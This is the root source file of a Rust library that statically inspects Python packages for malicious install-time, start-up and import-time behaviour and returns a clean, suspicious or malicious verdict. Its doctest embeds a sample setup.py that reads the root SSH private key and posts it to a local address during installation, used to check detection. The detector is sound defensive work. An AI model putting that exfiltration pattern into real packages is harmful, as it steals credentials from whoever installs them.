//! Finding malicious code in Python packages without running anything.
//!
//! A package (a wheel, an sdist, an unpacked folder, or files held in
//! memory) is read as data, each file is analysed for what it does and
//! *when* it runs (install, interpreter start-up, import, or only when a
//! function is called), and the findings are combined into a verdict:
//! `clean`, `suspicious` or `malicious`. Nothing is executed, written or
//! fetched.
//!
//! ```
//! use custody_inspect::{Code, Options, Verdict, inspect_files};
//!
//! // A setup.py that reads an SSH key and posts it while being installed.
//! let setup = "import urllib.request\n\
//!     from setuptools import setup\n\
//!     key = open('/root/.ssh/id_rsa').read()\n\
//!     urllib.request.urlopen('http://127.0.0.1:9/', data=key.encode())\n\
//!     setup(name='pkg')\n";
//! let report = inspect_files("pkg", [("setup.py", setup.as_bytes())], Options::default());
//! assert_eq!(report.verdict, Verdict::Malicious);
//! assert!(report.findings.iter().any(|f| f.code == Code::SecretAccess));
//!
//! // The same package without the key is clean.
//! let report = inspect_files("pkg", [("setup.py", &b"from setuptools import setup\nsetup(name='pkg')\n"[..])], Options::default());
//! assert_eq!(report.verdict, Verdict::Clean);
//! ```
//!
//! The facade:
//! * [`inspect_path`], [`inspect_files`], [`inspect`], [`inspect_with`]
//!   and [`Options`]: one package to a [`Report`] of [`Finding`]s, each
//!   with a [`Code`], [`Level`] and [`Phase`], and a [`Verdict`].
//! * [`archive`]: wheels, sdists (`.tar.gz`, `.zip`, `.tar.bz2`, `.tar.xz`)
//!   and folders read into memory with bounds on member count, sizes and
//!   compression ratio; path traversal and links are reported as anomalies
//!   instead of followed.
//! * [`site`]: an installed environment (`site-packages`), one
//!   distribution at a time; [`diff`]: what a new version can do that the
//!   old one could not; [`cache`]: reports kept by archive digest.
//!
//! Inside (private): `python` (facts from tree-sitter-python), `skeleton`
//! (the import-time part of a file), `prefilter` (byte searches deciding
//! what is worth parsing, derived from the rule tables in `rules`),
//! `roles` and `reach` (which files run when because of other files),
//! `analysis` (findings per file and phase), `decode` (encoded payloads),
//! `integrity` (RECORD hashes) and `verdict` (the rules that turn findings
//! into a verdict).

mod analysis;
pub mod archive;
pub mod cache;
mod code;
mod decode;
pub mod diff;
mod integrity;
mod options;
mod paths;
mod prefilter;
mod python;
mod reach;
mod report;
mod roles;
mod rules;
pub mod site;
mod skeleton;
mod verdict;

pub use analysis::{inspect, inspect_with};
pub use code::{Code, UnknownCode};
pub use options::Options;
pub use report::{Finding, Level, Phase, Report, Verdict};

/// Reads the package at `path` (an archive by its file name, or a folder)
/// with the bounds `options` call for, and analyses it.
pub fn inspect_path(
    path: &std::path::Path,
    options: Options,
) -> Result<Report, archive::ArchiveError> {
    let contents = archive::read(path, &options.limits())?;
    Ok(inspect_with(&contents, options))
}

/// Analyses a package held in memory: its files by path inside the
/// package (`setup.py`, `pkg/__init__.py`), read as an unpacked folder
/// named `name`.
pub fn inspect_files<'a>(
    name: &str,
    files: impl IntoIterator<Item = (&'a str, &'a [u8])>,
    options: Options,
) -> Report {
    let members = files
        .into_iter()
        .map(|(path, data)| archive::Member {
            path: path.to_owned(),
            size: data.len() as u64,
            data: data.to_vec(),
            truncated: false,
            sha256: None,
        })
        .collect();
    let contents = archive::Contents {
        path: name.into(),
        format: archive::Format::Folder,
        members,
        anomalies: Vec::new(),
    };
    inspect_with(&contents, options)
}
